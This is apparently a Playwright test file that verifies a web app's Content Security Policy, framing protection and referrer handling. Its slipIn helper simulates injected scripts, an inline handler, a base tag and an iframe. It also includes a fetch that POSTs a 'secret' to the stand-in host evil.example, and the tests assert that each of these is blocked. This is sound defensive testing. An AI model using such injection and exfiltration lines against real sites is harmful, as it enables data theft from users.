// What the page may load and run: all that the app needs, and nothing that somebody slips in.

import { once } from "node:events";
import { createServer } from "node:http";
import { account, enter, expect, heading, test } from "../kith/test.mjs";

/** Where the app's pages are; that they need nothing else is told by every other test as well. */
const PATHS = ["/", "/followed", "/search", "/suggestions", "/requests", "/settings", "/settings/blocked", "/no/such/page"];

test("the app needs nothing that its policy refuses", async ({ page, server }) => {
  const star = await account(server, "star");
  await enter(page, await account(server, "ada"));
  for (const path of [...PATHS, `/people/${star}`]) {
    const answer = await page.goto(path);
    expect(answer.headers()["content-security-policy"]).toContain("default-src 'none'; script-src 'self' 'wasm-unsafe-eval' 'sha256-");
    await expect(page.getByRole("main")).not.toHaveClass(/boot/);
  }
  await page.getByRole("button", { name: `Follow ${star}` }).click();
  await expect(page.getByRole("button", { name: `Following ${star}` })).toBeVisible();
});

/** Tries what somebody would who can write into the page; tells what has come of it. */
function slipIn(page) {
  return page.evaluate(async (elsewhere) => {
    const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
    add("script", { textContent: "window.ran = 'a script'" });
    add("script", { src: "data:text/javascript,window.ran = 'a script from elsewhere'" });
    document.body.insertAdjacentHTML("beforeend", `<p id="slipped" style="color: rgb(1, 2, 3)" onclick="window.ran = 'a handler'">`);
    document.querySelector("#slipped").click();
    add("base", { href: elsewhere });
    add("iframe", { src: elsewhere });
    const sent = fetch(elsewhere, { method: "POST", body: "secret" }).then(({ type }) => type, ({ name }) => name);
    const seen = new Promise((done) => add("img", { src: elsewhere, onload: () => done("seen"), onerror: () => done("unseen") }));
    // On its own, since what the test itself calls may.
    const evaluated = new Promise((done) => {
      addEventListener("error", (event) => (event.preventDefault(), done(event.error.name)), { once: true });
      setTimeout(() => done(new Function("return 'evaluated'")()));
    });
    const { color } = getComputedStyle(document.querySelector("#slipped"));
    const worn = color === "rgb(1, 2, 3)";
    return { sent: await sent, seen: await seen, evaluated: await evaluated, ran: window.ran, worn, base: document.baseURI === elsewhere };
  }, "https://evil.example/");
}

test("nothing runs or loads that is not the app's own", async ({ page, server, refused }) => {
  await page.goto(`/people/${await account(server, "target")}`);
  await expect(page.getByRole("main")).not.toHaveClass(/boot/);
  const nothing = { sent: "TypeError", seen: "unseen", evaluated: "EvalError", ran: undefined, worn: false, base: false };
  expect(await slipIn(page)).toEqual(nothing);
  const said = [];
  for (const directive of ["script-src-elem", "script-src-attr", "style-src-attr", "connect-src", "img-src", "base-uri", "frame-src"]) {
    await expect.poll(() => said.push(...refused.splice(0)) && said.join()).toContain(`Content Security Policy ${directive}`);
  }
});

test("no other site can put the app in a frame", async ({ page, baseURL, refused }) => {
  const site = createServer((_, answer) => answer.setHeader("Content-Type", "text/html").end(`<iframe src="${baseURL}/login"></iframe>`));
  await once(site.listen(0, "127.0.0.1"), "listening");
  await page.goto(`http://127.0.0.1:${site.address().port}/`);
  await expect.poll(() => refused.splice(0).join()).toContain("frame-ancestors 'none'");
  await expect(page.frameLocator("iframe").getByLabel("Password")).toBeHidden();
  site.close();
});

test("a page's address, which may hold a code, is told to nobody", async ({ page, server }) => {
  const star = await account(server, "star");
  const asked = page.waitForRequest("**/api/profile");
  await page.goto(`/people/${star}?code=secret`);
  expect((await (await asked).allHeaders()).referer).toBeUndefined();
  await expect(heading(page, star)).toBeVisible();
});

test("files may do less than the page", async ({ request }) => {
  for (const [path, policy] of [
    ["/sw.js", "default-src 'none'; connect-src 'self'; base-uri 'none'; frame-ancestors 'none'"],
    ["/icons/icon.svg", "default-src 'none'; base-uri 'none'; frame-ancestors 'none'"],
  ]) {
    const { "content-security-policy": told, "x-content-type-options": sniffing } = (await request.get(path)).headers();
    expect([path, told, sniffing]).toEqual([path, policy, "nosniff"]);
  }
});
